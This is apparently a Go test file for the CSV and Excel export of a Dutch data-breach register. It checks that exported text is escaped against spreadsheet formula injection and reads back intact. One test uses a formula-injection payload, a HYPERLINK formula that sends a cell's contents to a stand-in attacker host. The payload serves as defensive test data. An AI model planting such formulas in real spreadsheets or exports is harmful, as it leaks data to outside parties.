package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/lekwacht/lekwacht/internal/incident"
)

// fakeSource hands over fixed entries in batches, as the service does.
type fakeSource struct{ batches [][]incident.RegisterEntry }

func (f fakeSource) Each(_ context.Context, fn func([]incident.RegisterEntry) error, _ func([]incident.RegisterEvent) error) error {
	for _, b := range f.batches {
		if err := fn(b); err != nil {
			return err
		}
	}
	return nil
}

func TestTypedTextNeverBecomesAFormula(t *testing.T) {
	loc, _ := time.LoadLocation("Europe/Amsterdam")
	m := Meta{Organisation: "Bestuur", Filter: []string{"Alle incidenten"}, PrintedAt: time.Date(2026, 12, 1, 12, 0, 0, 0, loc), Location: loc}
	evil := `=HYPERLINK("http://evil.example/?"&A1;"klik")`
	src := fakeSource{batches: [][]incident.RegisterEntry{
		{{ID: 1, Number: incident.Number{Year: 2026, Seq: 1}, What: evil, Systems: "+31 6 12345678", ReporterName: "@melder", ReportedAt: m.PrintedAt}},
		{{ID: 2, Number: incident.Number{Year: 2026, Seq: 2}, What: "Gewone melding - niets aan de hand", ReportedAt: m.PrintedAt}},
	}}
	var buf bytes.Buffer
	if err := CSV(context.Background(), &buf, m, src); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("rows %d %v", len(rows), err)
	}
	col := func(h string) int {
		for i, c := range incident.RegisterColumns {
			if c.Header == h {
				return i
			}
		}
		t.Fatalf("no column %q", h)
		return -1
	}
	if got := rows[1][col("Wat is er gemeld")]; got != "'"+evil {
		t.Errorf("formula kept: %q", got)
	}
	if got := rows[1][col("Welke systemen")]; got != "'+31 6 12345678" {
		t.Errorf("plus kept: %q", got)
	}
	if got := rows[1][col("Gemeld door")]; got != "'@melder" {
		t.Errorf("at kept: %q", got)
	}
	if got := rows[2][col("Wat is er gemeld")]; got != "Gewone melding - niets aan de hand" {
		t.Errorf("ordinary text changed: %q", got)
	}
	if got := rows[1][col("Gemeld op")]; got != "01-12-2026 12:00" {
		t.Errorf("date %q", got)
	}

	// Excel: the text is a string cell, never a formula.
	buf.Reset()
	if err := XLSX(context.Background(), &buf, m, src); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cell, _ := excelize.CoordinatesToCellName(col("Wat is er gemeld")+1, 2)
	if formula, _ := f.GetCellFormula(SheetRegister, cell); formula != "" {
		t.Errorf("xlsx cell %s is a formula: %q", cell, formula)
	}
	if v, _ := f.GetCellValue(SheetRegister, cell); v != evil {
		t.Errorf("xlsx cell %s = %q", cell, v)
	}
}

// eventSource is fakeSource with a timeline.
type eventSource struct {
	fakeSource
	events []incident.RegisterEvent
}

func (s eventSource) Each(ctx context.Context, fn func([]incident.RegisterEntry) error, timeline func([]incident.RegisterEvent) error) error {
	if err := s.fakeSource.Each(ctx, fn, nil); err != nil || timeline == nil {
		return err
	}
	for _, ev := range s.events { // one event a batch
		if err := timeline([]incident.RegisterEvent{ev}); err != nil {
			return err
		}
	}
	return nil
}

// The workbook is written by hand (xlsx.go): excelize reads back every
// text as it was (escapes, white space, characters XML cannot hold, the
// cell limit), numbers as numbers, moments as dates in the date format, and
// the timeline of every batch.
func TestXLSXReadsBackAsWritten(t *testing.T) {
	loc, _ := time.LoadLocation("Europe/Amsterdam")
	at := time.Date(2026, 7, 3, 14, 5, 0, 0, loc)
	m := Meta{Organisation: "Stichting <Noord> & Zuid", PrintedAt: at, Location: loc}
	long := strings.Repeat("ab", 20000) // 40,000 characters: Excel holds 32,767
	count := 1234
	texts := map[string]string{
		"Wat is er gemeld":   "R&D <afdeling> \"lijst\" 'x'\r\nregel twee\tmet tab",
		"Welke systemen":     "  spaties voor en na  ",
		"Gemeld door":        "_x0041_ blijft _x0041_, _x00 niet",
		"School":             "De Regenboog 🌈 – ë",
		"Hoe is het gebeurd": "stuur\x01teken en \uFFFE",
		"Gevolgen":           long,
	}
	e := incident.RegisterEntry{ID: 7, Number: incident.Number{Year: 2026, Seq: 42}, ReportedAt: at, SubjectCount: &count,
		What: texts["Wat is er gemeld"], Systems: texts["Welke systemen"], ReporterName: texts["Gemeld door"],
		SchoolName: texts["School"], Cause: texts["Hoe is het gebeurd"], Consequences: texts["Gevolgen"]}
	e2 := incident.RegisterEntry{ID: 8, Number: incident.Number{Year: 2026, Seq: 12345}, ReportedAt: at}
	src := eventSource{fakeSource{[][]incident.RegisterEntry{{e}, {e2}}}, []incident.RegisterEvent{
		{CaseID: 7, CaseNumber: e.Number, At: at, ActorName: "Meldpunt", Summary: "Melding gedaan"},
		{CaseID: 8, CaseNumber: e2.Number, At: at.Add(time.Hour), Summary: "Zonder naam & <tekens>"},
	}}
	var buf bytes.Buffer
	if err := XLSX(context.Background(), &buf, m, src); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, ",") != SheetRegister+","+SheetTimeline {
		t.Fatalf("sheets %v", got)
	}
	col := func(h string) string {
		for i, c := range incident.RegisterColumns {
			if c.Header == h {
				name, _ := excelize.CoordinatesToCellName(i+1, 2)
				return name
			}
		}
		t.Fatalf("no column %q", h)
		return ""
	}
	want := map[string]string{
		"Wat is er gemeld":   texts["Wat is er gemeld"],
		"Welke systemen":     texts["Welke systemen"],
		"Gemeld door":        texts["Gemeld door"],
		"School":             texts["School"],
		"Hoe is het gebeurd": "Oorzaak: stuur\uFFFDteken en \uFFFD",
		"Gevolgen":           long[:32767],
		"Zaaknummer":         "2026-0042",
		"Gemeld op":          "03-07-2026 14:05",
		"Aantal betrokkenen": "1234",
	}
	for h, w := range want {
		if got, err := f.GetCellValue(SheetRegister, col(h)); err != nil || got != w {
			t.Errorf("%s = %.80q (%d chars) %v, want %.80q (%d)", h, got, len(got), err, w, len(w))
		}
	}
	if got, _ := f.GetCellType(SheetRegister, col("Aantal betrokkenen")); got != excelize.CellTypeUnset && got != excelize.CellTypeNumber {
		t.Errorf("count cell type %v", got)
	}
	if got, _ := f.GetCellValue(SheetRegister, "A1"); got != "Zaaknummer" {
		t.Errorf("A1 = %q", got)
	}
	rows, err := f.GetRows(SheetRegister)
	if err != nil || len(rows) != 3 || rows[2][0] != "2026-12345" {
		t.Fatalf("register rows %d %v %v", len(rows), err, rows[len(rows)-1][:1])
	}
	tl, err := f.GetRows(SheetTimeline)
	if err != nil || len(tl) != 3 {
		t.Fatalf("timeline rows %d %v", len(tl), err)
	}
	if got := strings.Join(tl[1], "|"); got != "2026-0042|03-07-2026 14:05|Meldpunt|Melding gedaan" {
		t.Errorf("timeline row 2 %q", got)
	}
	if got := strings.Join(tl[2], "|"); got != "2026-12345|03-07-2026 15:05||Zonder naam & <tekens>" {
		t.Errorf("timeline row 3 %q", got)
	}
	panes, err := f.GetPanes(SheetTimeline)
	if err != nil || !panes.Freeze || panes.XSplit != 1 || panes.YSplit != 1 {
		t.Errorf("timeline panes %+v %v", panes, err)
	}
	if w, _ := f.GetColWidth(SheetTimeline, "D"); w != 80 {
		t.Errorf("timeline column D is %v wide", w)
	}
	if p, _ := f.GetDocProps(); p.Title != "Datalekregister "+m.Organisation || p.Creator != "Lekwacht" {
		t.Errorf("doc props %+v", p)
	}
	style, _ := f.GetCellStyle(SheetRegister, "A1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header style %+v %v", s, err)
	}
}
